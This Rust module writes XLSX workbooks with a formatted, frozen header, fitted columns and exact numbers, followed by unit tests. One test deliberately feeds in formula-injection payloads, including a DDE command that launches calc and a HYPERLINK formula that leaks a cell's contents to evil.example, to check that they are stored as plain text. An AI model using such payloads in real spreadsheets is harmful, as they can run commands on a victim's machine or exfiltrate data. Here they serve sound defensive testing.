//! Writing a workbook (rust_xlsxwriter): one worksheet per [`Sheet`], its header bold, frozen
//! and filterable.

use crate::error::{cell_name, SheetError};
use crate::number::exact_number;
use crate::read::{MAX_COLUMNS, MAX_ROWS};
use rust_xlsxwriter::{Format, Workbook, Worksheet, XlsxError};

/// One worksheet: its name, the header row, then the rows.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct Sheet {
    pub name: String,
    pub header: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

/// A cell to write.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum Cell {
    /// Written as text, always: a text starting with `=`, `+`, `-` or `@` stays text (it is
    /// written as a string, never as a formula, so a spreadsheet does not run it).
    Text(String),
    /// An exact decimal (`"30000.00"`, `"-0.5"`): written as an Excel number when the number
    /// reads back as the same decimal (at most 15 significant digits), shown with as many
    /// decimals as given; anything else is written as text, unchanged.
    Number(String),
    Empty,
}

/// The most characters a column is made wide for (wider text wraps out of sight, as usual).
const MAX_WIDTH: usize = 60;
/// The most decimals given their own number format (`0.00`); more are shown as General.
const MAX_DECIMALS: usize = 15;

/// An XLSX workbook of `sheets`, as bytes: each sheet's header row bold, frozen (it stays in
/// view while scrolling) and with an autofilter; columns as wide as their longest text
/// (Chinese characters count two), at most 60.
pub fn write_workbook(sheets: &[Sheet]) -> Result<Vec<u8>, SheetError> {
    let mut workbook = Workbook::new();
    let bold = Format::new().set_bold();
    let decimals: Vec<Format> = (0..=MAX_DECIMALS)
        .map(|d| match d {
            0 => Format::new(),
            d => Format::new().set_num_format(format!("0.{}", "0".repeat(d))),
        })
        .collect();
    let mut names: Vec<String> = Vec::new();
    for sheet in sheets {
        let folded = sheet.name.to_lowercase();
        if names.contains(&folded) {
            return Err(SheetError::SheetName {
                name: sheet.name.clone(),
                detail: "another sheet has this name".into(),
            });
        }
        names.push(folded);
        let worksheet = workbook.add_worksheet();
        worksheet
            .set_name(&sheet.name)
            .map_err(|e| SheetError::SheetName {
                name: sheet.name.clone(),
                detail: e.to_string(),
            })?;
        write_sheet(worksheet, sheet, &bold, &decimals)?;
    }
    workbook.save_to_buffer().map_err(|e| SheetError::Write {
        detail: e.to_string(),
    })
}

fn write_sheet(
    worksheet: &mut Worksheet,
    sheet: &Sheet,
    bold: &Format,
    decimals: &[Format],
) -> Result<(), SheetError> {
    let columns = (sheet.rows.iter().map(Vec::len))
        .chain([sheet.header.len()])
        .max()
        .unwrap_or(0);
    if columns > MAX_COLUMNS as usize {
        return Err(SheetError::TooManyColumns {
            sheet: sheet.name.clone(),
        });
    }
    if sheet.rows.len() >= MAX_ROWS as usize {
        return Err(SheetError::TooManyRows {
            sheet: sheet.name.clone(),
        });
    }
    let mut widths = vec![0usize; columns];
    let failed = |row: u32, column: u16, e: XlsxError| match e {
        XlsxError::MaxStringLengthExceeded => SheetError::TextTooLong {
            sheet: sheet.name.clone(),
            cell: cell_name(row, u32::from(column)),
        },
        e => SheetError::Write {
            detail: e.to_string(),
        },
    };
    // Both bounds were checked above.
    for (column, text) in (0u16..).zip(&sheet.header) {
        worksheet
            .write_string_with_format(0, column, text, bold)
            .map_err(|e| failed(0, column, e))?;
        widths[usize::from(column)] = display_width(text);
    }
    for (row, cells) in (1u32..).zip(&sheet.rows) {
        for (column, cell) in (0u16..).zip(cells) {
            let shown = match cell {
                Cell::Empty => continue,
                Cell::Text(text) if text.is_empty() => continue,
                Cell::Text(text) => {
                    worksheet
                        .write_string(row, column, text)
                        .map_err(|e| failed(row, column, e))?;
                    display_width(text)
                }
                Cell::Number(text) => {
                    match exact_number(text) {
                        Some((value, places)) => worksheet
                            .write_number_with_format(
                                row,
                                column,
                                value,
                                &decimals[places.min(MAX_DECIMALS)],
                            )
                            .map_err(|e| failed(row, column, e))?,
                        None => worksheet
                            .write_string(row, column, text)
                            .map_err(|e| failed(row, column, e))?,
                    };
                    text.len()
                }
            };
            let width = &mut widths[usize::from(column)];
            *width = (*width).max(shown);
        }
    }
    for (column, width) in (0u16..).zip(&widths) {
        // A little room beside the text, and for the filter's button under the header.
        let width = ((*width).min(MAX_WIDTH) + 3) as f64;
        worksheet
            .set_column_width(column, width)
            .map_err(|e| failed(0, column, e))?;
    }
    if columns > 0 {
        worksheet
            .set_freeze_panes(1, 0)
            .map_err(|e| failed(0, 0, e))?;
        let last_row = sheet.rows.len() as u32;
        let last_column = (columns - 1) as u16;
        worksheet
            .autofilter(0, 0, last_row, last_column)
            .map_err(|e| failed(0, 0, e))?;
    }
    Ok(())
}

/// How many columns of a fixed-width font `text` takes: East Asian wide characters (Chinese,
/// Japanese, Korean, full-width forms) two, others one. Enough for column widths; a full
/// Unicode width table would weigh on the wasm module.
pub fn display_width(text: &str) -> usize {
    text.chars()
        .map(|c| match u32::from(c) {
            0x1100..=0x115F
            | 0x2E80..=0x303E
            | 0x3041..=0x33FF
            | 0x3400..=0x4DBF
            | 0x4E00..=0x9FFF
            | 0xA000..=0xA4CF
            | 0xAC00..=0xD7A3
            | 0xF900..=0xFAFF
            | 0xFE30..=0xFE4F
            | 0xFF00..=0xFF60
            | 0xFFE0..=0xFFE6
            | 0x20000..=0x3FFFD => 2,
            _ => 1,
        })
        .sum()
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::read::read_first_sheet;

    fn text(s: &str) -> Cell {
        Cell::Text(s.into())
    }

    fn number(s: &str) -> Cell {
        Cell::Number(s.into())
    }

    #[test]
    fn a_workbook_reads_back_as_written() {
        let sheets = [
            Sheet {
                name: "结果".into(),
                header: vec!["row".into(), "名称".into(), "amount".into()],
                rows: vec![
                    vec![number("1"), text("普陀区"), number("30000.00")],
                    vec![number("2"), Cell::Empty, number("0.1")],
                    vec![number("3"), text("x"), number("12345678901234567")],
                    vec![text("4")],
                ],
            },
            Sheet {
                name: "Totals".into(),
                header: vec!["a".into()],
                rows: vec![],
            },
        ];
        let bytes = write_workbook(&sheets).expect("written");
        assert_eq!(
            read_first_sheet(&bytes).expect("read"),
            [
                ["row", "名称", "amount"],
                ["1", "普陀区", "30000"],
                ["2", "", "0.1"],
                ["3", "x", "12345678901234567"],
                ["4", "", ""],
            ]
        );
        assert_eq!(display_width("普陀区 ab"), 9);
        let all = crate::read_all_sheets(&bytes).expect("read");
        assert_eq!(all.len(), 2);
        assert_eq!(
            (all[1].0.as_str(), &all[1].1),
            ("Totals", &vec![vec!["a".to_string()]])
        );
    }

    /// Text that a spreadsheet would run as a formula is written as a string: in the XML, an
    /// inline or shared string cell, never an `<f>` element.
    #[test]
    fn text_that_looks_like_a_formula_stays_text() {
        let hostile = [
            "=1+1",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)",
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
        ];
        let sheets = [Sheet {
            name: "s".into(),
            header: vec!["cell".into()],
            rows: hostile.iter().map(|h| vec![text(h)]).collect(),
        }];
        let bytes = write_workbook(&sheets).expect("written");
        let xml = crate::tests::part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(!xml.contains("<f>") && !xml.contains("<f "), "{xml}");
        assert_eq!(xml.matches("t=\"s\"").count(), hostile.len() + 1, "{xml}");
        let read = read_first_sheet(&bytes).expect("read");
        let cells: Vec<&str> = read[1..].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(cells, hostile);
    }

    #[test]
    fn the_header_is_bold_frozen_and_filtered_and_columns_fit_their_text() {
        let sheets = [Sheet {
            name: "Results".into(),
            header: vec!["id".into(), "条款名称".into()],
            rows: vec![vec![text("a"), text("上海市普陀区职业技能竞赛奖励")]],
        }];
        let bytes = write_workbook(&sheets).expect("written");
        let xml = crate::tests::part(&bytes, "xl/worksheets/sheet1.xml");
        assert!(xml.contains("<pane ySplit=\"1\""), "{xml}");
        assert!(xml.contains("<autoFilter ref=\"A1:B2\""), "{xml}");
        // 14 Chinese characters: 28 columns, and 3 of room.
        assert!(xml.contains("width=\"31.7109375\""), "{xml}");
        let styles = crate::tests::part(&bytes, "xl/styles.xml");
        assert!(styles.contains("<b/>"), "{styles}");
    }

    #[test]
    fn what_excel_cannot_hold_is_refused_naming_it() {
        let long = Sheet {
            name: "s".into(),
            header: vec![],
            rows: vec![vec![Cell::Empty, text(&"x".repeat(32_768))]],
        };
        assert_eq!(
            write_workbook(&[long]),
            Err(SheetError::TextTooLong {
                sheet: "s".into(),
                cell: "B2".into()
            })
        );
        for name in ["", "a/b", "[x]", &"n".repeat(32)] {
            let sheet = Sheet {
                name: name.into(),
                ..Sheet::default()
            };
            assert!(
                matches!(write_workbook(&[sheet]), Err(SheetError::SheetName { .. })),
                "{name:?}"
            );
        }
        let twice = [
            Sheet {
                name: "Results".into(),
                ..Sheet::default()
            },
            Sheet {
                name: "results".into(),
                ..Sheet::default()
            },
        ];
        assert!(matches!(
            write_workbook(&twice),
            Err(SheetError::SheetName { .. })
        ));
        let wide = Sheet {
            name: "w".into(),
            header: vec![String::new(); MAX_COLUMNS as usize + 1],
            rows: vec![],
        };
        assert!(matches!(
            write_workbook(&[wide]),
            Err(SheetError::TooManyColumns { .. })
        ));
    }
}
